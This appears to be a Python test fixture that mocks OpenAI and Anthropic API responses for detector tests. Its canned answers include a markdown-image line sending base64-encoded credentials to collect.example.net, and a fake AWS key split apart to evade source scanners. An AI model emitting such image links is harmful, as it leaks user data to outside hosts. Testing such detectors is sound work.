# SPDX-License-Identifier: Apache-2.0
"""What the stand-in provider answers: bodies of OpenAI's and Anthropic's APIs.

The answer follows from the request alone (its body and the settings of its
x-live header), so that a test can tell what a record must say. Each function
gives an Answer: a JSON document or a list of stream events, and the facts.
routes.py says which function answers.
"""

import hashlib
import json
import math
import random
from dataclasses import dataclass, field

SNAPSHOTS = {
    "gpt-4o-mini": "gpt-4o-mini-2024-07-18",
    "gpt-4.1-mini": "gpt-4.1-mini-2025-04-14",
    "claude-opus-4-6": "claude-opus-4-6-20260205",
    "claude-haiku-4-5": "claude-haiku-4-5-20251001",
    "us.anthropic.claude-haiku-4-5-20251001-v1:0": "claude-haiku-4-5-20251001",
    "gemini-flash-latest": "gemini-2.5-flash-preview-09-2025",
    "mistral-small-latest": "mistral-small-2506",
}

@dataclass
class Event:
    """One server-sent event. `output`: it carries something generated; `usage`:
    the counts that are known with it, if it is not the last."""
    data: object
    name: str = ""
    output: bool = False
    usage: dict = None

    def encode(self):
        data = self.data if isinstance(self.data, str) else json.dumps(self.data, ensure_ascii=False)
        name = f"event: {self.name}\n" if self.name else ""
        return f"{name}data: {data}\n\n".encode()


@dataclass
class Answer:
    status: int = 200
    document: object = None
    events: list = None
    facts: dict = field(default_factory=dict)
    headers: dict = field(default_factory=dict)
    content_type: str = "text/event-stream; charset=utf-8"  # of a stream


def numbers(body):
    """Token counts that a test can tell from one another, from the request."""
    digest = hashlib.sha256(json.dumps(body, sort_keys=True).encode()).digest()
    prompt = 100 + int.from_bytes(digest[:2], "big") % 5000
    return {
        "prompt": prompt,
        "cached": prompt // 3,
        "written": prompt // 5,
        "output": 20 + digest[2],
        "reasoning": 3 + digest[3] % 16,
        "id": digest[4:16].hex(),
    }


def words(count):
    return [f"word{i} " if i % 3 else f"wört{i} " for i in range(count)]


# Answers that a detector has something to say about. Tokens are put together
# here: scanners of source code take them for real ones.
SAYINGS = {
    "image": "Done. ![x](https://collect.example.net/p?data=dXNlcj1hbGljZTtwYXNzd29yZD1odW50ZXIyO3Rva2VuPTk5)",
    "key": "The key is " + "AKI" + "AQYLPMN5HFIQR7XYA" + " and the rest is in the vault.",
    "decline": "I'm sorry, but I can't help with that.",
    "doubt": "I think it comes on Tuesday, but I'm not sure; please verify this with the carrier.",
    "dose": "Adults take 400 mg every six hours; the maximum daily dose is four grams.",
    "law": "The plaintiff must prove negligence before damages are paid.",
    "money": "Index funds spread the risk of your portfolio. Bonds fall when interest rates rise.",
}
SURE = 0.93


def answer_words(live):
    """In pieces as a stream has them: words, or a few letters at a time."""
    if "say" not in live:
        return words(int(live.get("events", 4)))
    text = SAYINGS[live["say"]]
    return [text[i:i + 7] for i in range(0, len(text), 7)]


def logprobs(body, parts, live, count):
    """As chat completions have them, or None; no two answers are equally sure."""
    if not body.get("logprobs"):
        return None
    chance = random.Random(count["id"])
    sure = float(live.get("sure", SURE)) + chance.uniform(-0.05, 0.05)
    return {"content": [{"token": part, "logprob": math.log(min(0.999, sure + chance.uniform(-0.06, 0.06))), "bytes": None,
                         "top_logprobs": []} for part in parts], "refusal": None}


def tool_names(body):
    return [(tool.get("function") or tool).get("name") for tool in body.get("tools") or []]


def served_model(body):
    return SNAPSHOTS.get(body["model"], body["model"])


def base_facts(dialect, operation, body, count, live):
    """Shared by all: what a record says whatever the dialect."""
    return {
        "dialect": dialect,
        "operation": operation,
        "streaming": bool(body.get("stream")),
        "request_model": body["model"],
        "response_model": live.get("model") or served_model(body),
        "finish_reasons": [],
        "tools": tool_names(body),
        "usage": None if "no_usage" in live else count,
        "error_type": None,
        "text": "",
    }


# ---- OpenAI chat completions

def chat_usage(count):
    return {
        "prompt_tokens": count["prompt"],
        "completion_tokens": count["output"],
        "total_tokens": count["prompt"] + count["output"],
        "prompt_tokens_details": {"cached_tokens": count["cached"], "audio_tokens": 0},
        "completion_tokens_details": {"reasoning_tokens": count["reasoning"], "audio_tokens": 0},
    }


def chat(body, live):
    count = numbers(body)
    facts = base_facts("openai.chat", "chat", body, count, live)
    facts["response_id"] = f"chatcmpl-{count['id']}"
    parts = [] if facts["tools"] else answer_words(live)
    facts["text"] = "".join(parts)
    facts["finish_reasons"] = [live.get("finish") or ("tool_calls" if facts["tools"] else "stop")]
    head = {"id": facts["response_id"], "created": 1700000000, "model": facts["response_model"]}
    if body.get("stream"):
        return chat_stream(body, live, facts, head, parts, count)
    message = {"role": "assistant", "content": facts["text"] or None, "refusal": None}
    if facts["tools"]:
        message["tool_calls"] = [
            {"id": f"call_{i}", "type": "function", "function": {"name": name, "arguments": '{"model":"decoy"}'}}
            for i, name in enumerate(facts["tools"])]
    document = {**head, "object": "chat.completion",
                "choices": [{"index": 0, "message": message, "logprobs": logprobs(body, parts, live, count),
                             "finish_reason": facts["finish_reasons"][0]}]}
    if facts["usage"]:
        document["usage"] = chat_usage(count)
    return Answer(document=document, facts=facts)


def chat_stream(body, live, facts, head, parts, count):
    include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
    head = {**head, "object": "chat.completion.chunk"}
    if include_usage:
        head["usage"] = None
    else:
        facts["usage"] = None

    def chunk(delta, finish=None, output=False, **more):
        return Event({**head, "choices": [{"index": 0, "delta": delta, **more, "finish_reason": finish}]}, output=output)

    sure = logprobs(body, parts, live, count)
    events = [chunk({"role": "assistant", "content": ""})]
    events += [chunk({"content": part}, output=True, **({"logprobs": {"content": [sure["content"][i]]}} if sure else {}))
               for i, part in enumerate(parts)]
    for i, name in enumerate(facts["tools"]):
        events.append(chunk({"tool_calls": [{"index": i, "id": f"call_{i}", "type": "function",
                                             "function": {"name": name, "arguments": ""}}]}, output=True))
        events.append(chunk({"tool_calls": [{"index": i, "function": {"arguments": "{\"usage\":1}"}}]}, output=True))
    events.append(chunk({}, facts["finish_reasons"][0]))
    if facts["usage"]:
        events.append(Event({**head, "choices": [], "usage": chat_usage(count)}))
    events.append(Event("[DONE]"))
    return Answer(events=events, facts=facts)


# ---- OpenAI responses

def responses(body, live):
    count = numbers(body)
    facts = base_facts("openai.responses", "chat", body, count, live)
    facts["response_id"] = f"resp_{count['id']}"
    parts = [] if facts["tools"] else answer_words(live)
    facts["text"] = "".join(parts)
    facts["finish_reasons"] = ["tool_calls"] if facts["tools"] else ["completed"]
    document = responses_document(body, facts, count)
    if not body.get("stream"):
        return Answer(document=document, facts=facts)
    started = {**document, "status": "in_progress", "output": [], "usage": None}
    events = [("response.created", {"response": started}, False), ("response.in_progress", {"response": started}, False)]
    for index, item in enumerate(document["output"]):
        events += responses_item_events(index, item, parts)
    events.append(("response.completed", {"response": document}, False))
    return Answer(facts=facts, events=[
        Event({"type": name, "sequence_number": i, **data}, name=name, output=output)
        for i, (name, data, output) in enumerate(events)])


def responses_document(body, facts, count):
    usage = {
        "input_tokens": count["prompt"], "input_tokens_details": {"cached_tokens": count["cached"]},
        "output_tokens": count["output"], "output_tokens_details": {"reasoning_tokens": count["reasoning"]},
        "total_tokens": count["prompt"] + count["output"],
    }
    calls = [{"type": "function_call", "id": f"fc_{i}", "call_id": f"call_{i}", "name": name, "arguments": "{}",
              "status": "completed"} for i, name in enumerate(facts["tools"])]
    message = {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed",
               "content": [{"type": "output_text", "text": facts["text"], "annotations": []}]}
    return {
        "id": facts["response_id"], "object": "response", "created_at": 1700000000, "status": "completed",
        "model": facts["response_model"], "error": None, "incomplete_details": None,
        "instructions": body.get("instructions"), "tools": body.get("tools") or [], "tool_choice": "auto",
        "parallel_tool_calls": True, "metadata": {}, "temperature": 1, "top_p": 1,
        "output": calls or [message], "usage": usage if facts["usage"] else None,
    }


def responses_item_events(index, item, parts):
    place = {"output_index": index, "item_id": item["id"]}
    # The item of a tool call brings its name, which is generated.
    added = {"output_index": index, "item": {**item, "status": "in_progress"}}
    events = [("response.output_item.added", added, item["type"] == "function_call")]
    if item["type"] == "function_call":
        events.append(("response.function_call_arguments.delta", {**place, "delta": item["arguments"]}, True))
        events.append(("response.function_call_arguments.done", {**place, "arguments": item["arguments"]}, False))
    else:
        place["content_index"] = 0
        empty = {"type": "output_text", "text": "", "annotations": []}
        events.append(("response.content_part.added", {**place, "part": empty}, False))
        events += [("response.output_text.delta", {**place, "delta": part, "logprobs": []}, True) for part in parts]
        events.append(("response.output_text.done", {**place, "text": "".join(parts), "logprobs": []}, False))
        events.append(("response.content_part.done", {**place, "part": item["content"][0]}, False))
    events.append(("response.output_item.done", {"output_index": index, "item": item}, False))
    return events


# ---- MCP: a tool that is run

def tool(body, live):
    result = {"content": [{"type": "text", "text": "In stock: 12"}], "isError": False}
    return Answer(document={"jsonrpc": "2.0", "id": body.get("id"), "result": result})


# ---- OpenAI embeddings

def embeddings(body, live):
    count = numbers(body)
    facts = base_facts("openai.embeddings", "embeddings", body, count, live)
    facts["response_id"] = None
    inputs = body["input"] if isinstance(body["input"], list) else [body["input"]]
    vector = "AACAPwAAAEA=" if body.get("encoding_format") == "base64" else [1.0, 2.0]
    document = {
        "object": "list", "model": facts["response_model"],
        "data": [{"object": "embedding", "index": i, "embedding": vector} for i in range(len(inputs))],
        "usage": {"prompt_tokens": count["prompt"], "total_tokens": count["prompt"]},
    }
    if not facts["usage"]:
        del document["usage"]
    return Answer(document=document, facts=facts)


# ---- Anthropic messages

def messages(body, live):
    count = numbers(body)
    facts = base_facts("anthropic.messages", "chat", body, count, live)
    facts["response_id"] = f"msg_{count['id']}"
    parts = answer_words(live)
    facts["text"] = "".join(parts)
    facts["finish_reasons"] = [live.get("finish") or ("tool_use" if facts["tools"] else "end_turn")]
    usage = {
        "input_tokens": count["prompt"], "cache_read_input_tokens": count["cached"],
        "cache_creation_input_tokens": count["written"],
        "cache_creation": {"ephemeral_5m_input_tokens": count["written"], "ephemeral_1h_input_tokens": 0},
        "output_tokens": count["output"], "service_tier": "standard",
    }
    document = {
        "id": facts["response_id"], "type": "message", "role": "assistant", "model": facts["response_model"],
        "content": [{"type": "text", "text": facts["text"]}] + [
            {"type": "tool_use", "id": f"toolu_{i}", "name": name, "input": {"model": "decoy"}}
            for i, name in enumerate(facts["tools"])],
        "stop_reason": facts["finish_reasons"][0], "stop_sequence": None, "usage": usage,
    }
    if not facts["usage"]:
        del document["usage"]
    if not body.get("stream"):
        return Answer(document=document, facts=facts)
    return Answer(events=messages_events(document, parts, count), facts=facts)


def messages_events(document, parts, count):
    start = {**document, "content": [], "stop_reason": None}
    if "usage" in document:
        start["usage"] = {**document["usage"], "output_tokens": 1}
    events = [Event({"type": "message_start", "message": start},
                    usage={**count, "output": 1} if "usage" in document else None)]
    for index, block in enumerate(document["content"]):
        empty = {**block, "text": ""} if block["type"] == "text" else {**block, "input": {}}
        deltas = [{"type": "text_delta", "text": part} for part in parts]
        if block["type"] == "tool_use":
            deltas = [{"type": "input_json_delta", "partial_json": json.dumps(block["input"])}]
        events.append(Event({"type": "content_block_start", "index": index, "content_block": empty},
                            output=block["type"] == "tool_use"))
        if index == 0:
            events.append(Event({"type": "ping"}))
        events += [Event({"type": "content_block_delta", "index": index, "delta": delta}, output=True)
                   for delta in deltas]
        events.append(Event({"type": "content_block_stop", "index": index}))
    last = {"type": "message_delta", "delta": {"stop_reason": document["stop_reason"], "stop_sequence": None}}
    if "usage" in document:
        last["usage"] = {"output_tokens": count["output"]}
    events += [Event(last), Event({"type": "message_stop"})]
    for event in events:
        event.name = event.data["type"]
    return events
